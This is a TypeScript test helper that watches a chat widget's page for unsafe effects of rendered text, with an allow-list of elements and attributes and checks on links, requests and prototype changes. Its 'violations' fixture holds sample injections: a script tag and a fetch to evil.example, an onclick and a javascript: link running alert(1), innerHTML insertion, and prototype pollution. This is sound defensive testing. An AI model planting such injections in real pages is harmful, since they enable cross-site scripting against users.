/** Watches a page for everything that a text must not cause. The functions run in the page, so they use nothing else. */

export interface Watch {
  /** Returns what was found since the last call. */
  take(): string[];
}

/** The elements that the widget renders, and no others. */
const elements =
  'a b bdi blockquote br button code dd del dialog div details dl dt em footer form h1 h2 h3 h4 h5 h6 header hr i img input label li ol ' +
  'option p path circle rect line polyline g pre section select slot small span strong summary sup svg table tbody td textarea th thead ' +
  'title tr ul';

/** The attributes that the widget sets. `aria-…` and `data-…` are allowed as well. */
const attributes =
  'alt autocomplete autofocus checked class cite colspan contenteditable cx cy d dir disabled download enterkeyhint fill for ' +
  'grouped hidden href id inert inputmode label lang maxlength novalidate part placeholder popover r referrerpolicy rel required ' +
  'role rows scope selected slot start step src stroke stroke-linecap stroke-linejoin stroke-width tabindex target title type ' +
  'value viewbox width height x y rx ry x1 x2 y1 y2 points';

const allowed = { elements, attributes };

/** Returns what is wrong with a link, or null. */
const linkProblem = (link: HTMLAnchorElement): string | null => {
  const href = link.getAttribute('href')!;
  const { protocol, username, searchParams } = new URL(href, 'https://page.example');
  if (link.hasAttribute('download')) return protocol === 'blob:' ? null : 'a download';
  if (protocol === 'tel:') return /^tel:[\d+ -]+$/.test(href) ? null : 'a telephone link';
  if (protocol === 'mailto:')
    return [...searchParams.keys()].every((key) => key === 'subject') ? null : 'a mail link with fields';
  if (!/^https?:\/\//i.test(href) || username !== '') return 'a link';
  return link.target === '_blank' && /\bnoopener\b/.test(link.rel) ? null : 'a link with an opener';
};

/** Returns what is wrong with an element of the widget. */
const examine = (element: Element, names: typeof allowed, problemOf: typeof linkProblem): string[] => {
  const found: string[] = [];
  const name = element.localName;
  if (!names.elements.split(' ').includes(name) && !name.startsWith('workspace-chat'))
    found.push(`an element <${name}>`);
  for (const { name: attribute, value } of element.attributes) {
    const isKnown =
      names.attributes.split(' ').includes(attribute.toLowerCase()) || /^(?:aria|data)-[a-z-]+$/.test(attribute);
    if (!isKnown) found.push(`an attribute ${attribute}="${value}" of <${name}>`);
  }
  const problem = name === 'a' && element.hasAttribute('href') ? problemOf(element as HTMLAnchorElement) : null;
  if (problem !== null) found.push(`${problem} to ${element.getAttribute('href')}`);
  if (element.hasAttribute('src')) found.push(`a request to ${element.getAttribute('src')}`);
  return found;
};

/** Returns what scripts can reach and change: the members of the window and of three prototypes, the title and the cookies. */
const membersOf = (): string[] => [
  ...Object.getOwnPropertyNames(window),
  ...Object.entries({ Object, Array, Element }).flatMap(([name, { prototype }]) =>
    Object.getOwnPropertyNames(prototype).map((member) => `${name}.prototype.${member}`),
  ),
  `title ${document.title}`,
  `cookie ${document.cookie}`,
];

interface Helpers {
  examine: typeof examine;
  linkProblem: typeof linkProblem;
  membersOf: typeof membersOf;
}

const install = (names: typeof allowed, helpers: Helpers): void => {
  let found: string[] = [];
  const note = (text: string): void => {
    found.push(text.slice(0, 300));
  };

  document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI, sample }) =>
    note(`the policy stopped ${violatedDirective} ${blockedURI} ${sample}`),
  );
  for (const name of ['alert', 'confirm', 'prompt', 'print', 'open', 'msgbox'])
    Object.defineProperty(window, name, { value: () => note(`a script called ${name}()`) });

  /** Examines what was added or changed inside the widget, and reports what changed outside of it. */
  const onMutations = (records: readonly MutationRecord[]): void => {
    for (const { target, addedNodes, type } of records) {
      const isInside = target.getRootNode() instanceof ShadowRoot;
      if (!isInside && type === 'childList') note(`a change of the page in <${(target as Element).localName}>`);
      if (!isInside) continue;
      const changed = type === 'attributes' ? [target as Element] : [];
      const added = [...addedNodes].filter((node) => node instanceof Element);
      for (const element of [...changed, ...added.flatMap((node) => [node, ...node.querySelectorAll('*')])])
        for (const problem of helpers.examine(element, names, helpers.linkProblem)) note(problem);
    }
  };

  const observer = new MutationObserver(onMutations);
  let known: Set<string> | null = null;
  const watch: Watch = {
    take() {
      onMutations(observer.takeRecords());
      const members = helpers.membersOf();
      for (const member of members) if (known && !known.has(member)) note(`a new member ${member}`);
      known = new Set(members);
      const taken = new Set(found);
      found = [];
      return [...taken];
    },
  };
  addEventListener('load', () => {
    for (const root of [document, document.querySelector('workspace-chat')!.shadowRoot!])
      observer.observe(root, { subtree: true, childList: true, attributes: true });
  });
  Object.defineProperty(window, 'watch', { value: watch });
};

/** A script for `addInitScript`. It defines the helper that the compiler of the tests adds to functions, too. */
export const watchScript = `globalThis.__name ??= (value) => value;
  (${install.toString()})(${JSON.stringify(allowed)}, { examine: ${examine.toString()},
    linkProblem: ${linkProblem.toString()}, membersOf: ${membersOf.toString()} })`;

/** What a broken widget could let through. The watch must find each. */
export const violations: Record<string, () => void> = {
  'a script': () => {
    const script = document.createElement('script');
    script.setAttribute('src', 'https://evil.example/x.js');
    document.querySelector('workspace-chat')!.shadowRoot!.append(script);
  },
  'an inline handler': () => {
    const element = document.createElement('p');
    element.setAttribute('onclick', 'alert(1)');
    document.querySelector('workspace-chat')!.shadowRoot!.append(element);
  },
  'a link that runs a script': () => {
    const link = document.createElement('a');
    link.href = 'javascript:alert(1)';
    document.querySelector('workspace-chat')!.shadowRoot!.append(link);
  },
  'a picture': () => {
    const picture = document.createElement('img');
    picture.src = 'https://evil.example/x.png';
    document.querySelector('workspace-chat')!.shadowRoot!.append(picture);
  },
  'a style': () => {
    document.querySelector('workspace-chat')!.shadowRoot!.append(document.createElement('style'));
  },
  'HTML as a string': () => {
    const root = document.querySelector('workspace-chat')!.shadowRoot! as { innerHTML: string };
    root.innerHTML += '<b>x</b>';
  },
  'a call of a function': () => alert(1),
  'a navigation': () => {
    location.hash = 'other';
  },
  'a request': () => {
    fetch('https://evil.example/').catch(() => {});
  },
  'a polluted prototype': () => {
    (Object.prototype as Record<string, unknown>)['polluted'] = 1;
  },
  'a global': () => {
    (window as unknown as Record<string, unknown>)['polluted'] = 1;
  },
  'a change of the page': () => document.body.append(document.createElement('p')),
  'a new title': () => {
    document.title = 'evil';
  },
};
